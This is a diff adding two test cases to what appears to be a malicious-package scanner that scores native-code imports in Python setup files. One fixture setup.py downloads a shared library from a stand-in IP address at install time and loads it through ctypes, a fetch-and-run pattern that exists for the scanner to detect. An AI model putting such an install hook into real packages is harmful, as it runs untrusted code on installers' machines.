@@ -90,3 +90,22 @@ PY
 	run hits pkg ProcessExecution
 	assert_output "7 import 40"
 }
+
+@test "one import statement naming ctypes and ctypes.util is one native-code import" {
+	printf 'import ctypes, ctypes.util\nimport ctypes.util, ctypes\n' > pkg/setup.py
+	run hits pkg NativeCodeImport
+	assert_output "$(printf '1 install 10\n2 install 10')"
+}
+
+@test "look-alike: modules of other packages each count, and what ctypes loads weighs in full" {
+	cat > pkg/setup.py <<'PY'
+import ctypes, ctypes.util, cffi
+import os, urllib.request
+p = urllib.request.urlretrieve('https://203.0.113.9/x.so', os.path.join(os.path.dirname(__file__), 'x.so'))[0]
+ctypes.CDLL(p)
+PY
+	run hits pkg NativeCodeImport
+	assert_output "$(printf '1 install 10\n1 install 10')"
+	run hits pkg NativeCode
+	assert_output "4 install 50"
+}
